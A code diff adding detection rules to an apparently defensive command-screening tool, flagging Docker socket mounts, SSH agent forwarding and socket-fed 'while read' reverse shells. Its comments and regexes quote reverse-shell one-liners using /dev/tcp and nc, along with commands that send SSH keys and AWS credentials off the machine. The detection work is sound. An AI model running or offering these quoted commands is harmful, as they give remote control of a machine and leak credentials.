@@ -36,7 +36,7 @@ import {
   writeTargets,
 } from "./risk-view.ts";
 import { plantedKey, reverseShell, SOCKET_FDS } from "./risk-remote-access.ts";
-import { CODE_SENDS_SECRETS_LINE, exposedSecrets, isNetworkClient, sentSecrets } from "./risk-secrets.ts";
+import { CODE_SENDS_SECRETS_LINE, dockerSocketMountedInto, exposedSecrets, isNetworkClient, sentSecrets } from "./risk-secrets.ts";
 import { foldConfusables, removeInvisible, showInvisible } from "./screening-text.ts";
 import { parseShell, type Redirect } from "./shell.ts";
 
@@ -961,6 +961,32 @@ export const COMMAND_RULES: readonly CommandRule[] = [
     },
   },
 
+  // docker run -v /var/run/docker.sock:… stranger/image: the image drives the host's Docker, root on it (as a compose file's volume, risk-secrets.ts yamlMounts)
+  {
+    flag: "privilege_escalation",
+    level: "medium",
+    match: (v) => {
+      const image = dockerSocketMountedInto(v);
+      return (
+        image !== null &&
+        `${v.name} mounts the Docker socket into a container of ${short(image, 60)}: the image controls this machine's Docker, which is root on it; check it is one you trust`
+      );
+    },
+  },
+
+  // ssh -A / -o ForwardAgent=yes: root on the far host can use the agent's keys while the session lasts (ssh(1), -A)
+  {
+    flag: "credential_exposure",
+    level: "medium",
+    match: (v) => {
+      const host = agentForwardedTo(v);
+      return (
+        host !== null &&
+        `ssh forwards your SSH agent to ${short(host, 60)}: anyone with root there can use your keys (log in to your servers, push to your repositories) while you are connected`
+      );
+    },
+  },
+
   // local secrets sent off the machine (risk-secrets.ts): curl -d @~/.ssh/id_rsa, scp ~/.aws/credentials host:, env | curl …
   // a shell a remote host controls (bash -i >& /dev/tcp/h/p 0>&1, nc -e /bin/sh h p), a key given in the trail added to authorized_keys
   {
@@ -1224,8 +1250,28 @@ function deceptiveHosts(t: string): string | null {
   return null;
 }
 
+// `while read line; do $line; done < /dev/tcp/h/p`, `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l 2>&5 >&5; done`
+// (PayloadsAllTheThings, "Reverse Shell Cheatsheet", Bash read line): a loop that runs each line it reads
+const READ_LOOP_RUNS_LINE =
+  /\bwhile\s+(?:IFS=\S{0,10}\s+)?read\b(?:\s+-[a-zA-Z]{1,4}(?:\s+\d{1,4})?){0,4}\s+([A-Za-z_]\w{0,63})[^;\n]{0,60}?[;\n]\s*do\s+(?:eval\s+|(?:ba|z|da|k)?sh\s+-c\s+)?["']?\$\{?\1\}?["']?(?=[\s;&|<>)]|$)/g;
+const SOCKET_NEAR = /\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat|socat|telnet|s_client)\b/;
+
+/** A `while read` loop that runs each line it reads, fed from a network socket: a reverse shell; its detail, or null. */
+function readLoopShell(t: string): string | null {
+  if (!t.includes("read")) return null;
+  READ_LOOP_RUNS_LINE.lastIndex = 0;
+  for (let m = READ_LOOP_RUNS_LINE.exec(t), n = 0; m !== null && n < 50; m = READ_LOOP_RUNS_LINE.exec(t), n++) {
+    const near = t.slice(Math.max(0, m.index - 300), m.index + m[0].length + 300);
+    const socket = SOCKET_NEAR.exec(near);
+    if (socket)
+      return `a while-read loop runs every line it reads from a network connection (${socket[0]}) as a command: a reverse shell a remote host controls`;
+  }
+  return null;
+}
+
 export const TEXT_RULES: readonly TextRule[] = [
   { flag: "obfuscated_command", level: "high", match: deceptiveHosts },
+  { flag: "remote_script_execution", level: "high", match: readLoopShell },
   {
     // New-Object Net.Sockets.TCPClient("h",p); … iex $d …: the PowerShell reverse shell one-liner (its `;` split it into commands)
     flag: "remote_script_execution",
@@ -1288,6 +1334,26 @@ export const TEXT_RULES: readonly TextRule[] = [
   },
 ];
 
+/** ssh's options that take a value (ssh(1)). */
+const SSH_VALUE_OPTION = /^-[bcDEeFIiJLlmOopQRSWw]$/;
+const LOCAL_HOST_NAME = /^(?:[^@]*@)?(localhost|127(?:\.\d{1,3}){3}|::1|\[::1\])$/i;
+
+/** The host an `ssh -A` (or `-o ForwardAgent=yes`) forwards the agent to, or null (no forwarding, or this machine). */
+function agentForwardedTo(v: View): string | null {
+  if (v.name !== "ssh") return null;
+  let forwards = false;
+  let host: string | null = null;
+  for (let i = 0; i < v.a.length && host === null; i++) {
+    const x = v.a[i]!;
+    if (/^-[a-zA-Z]*A[a-zA-Z]*$/.test(x) && !SSH_VALUE_OPTION.test(x)) forwards = true;
+    const option = x === "-o" ? (v.a[i + 1] ?? "") : x.startsWith("-o") ? x.slice(2) : null;
+    if (option !== null && /^\s*forwardagent\s*[= ]\s*(yes|true)\b/i.test(option)) forwards = true;
+    if (SSH_VALUE_OPTION.test(x)) i++;
+    else if (!x.startsWith("-")) host = x;
+  }
+  return forwards && host !== null && !LOCAL_HOST_NAME.test(host) ? host : null;
+}
+
 // --- Patch rules (added lines of any file) -----------------------------------------------------------
 
 export const PATCH_RULES: readonly PatchRule[] = [
@@ -1335,6 +1401,13 @@ export const PATCH_RULES: readonly PatchRule[] = [
     detail: "makes files world-writable (chmod 777/666)",
   },
   { re: /\bNOPASSWD\s*:/, flag: "privilege_escalation", level: "high", detail: "grants passwordless sudo (NOPASSWD)" },
+  {
+    // an ssh_config block for every host (`Host *`) that forwards the agent: each server connected to can use the keys
+    re: /^[ \t]*Host[ \t]+\*[ \t]*(?:#.*)?\n(?:[ \t]+[^\n]{0,200}\n){0,30}?[ \t]*ForwardAgent[ \t=]+yes\b/im,
+    flag: "credential_exposure",
+    level: "medium",
+    detail: "forwards your SSH agent to every host (Host * with ForwardAgent yes): root on any server you connect to can use your keys",
+  },
   {
     re: /(?:^|\s)(?:curl|wget)\s[^|\n]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh\b/m,
     flag: "remote_script_execution",
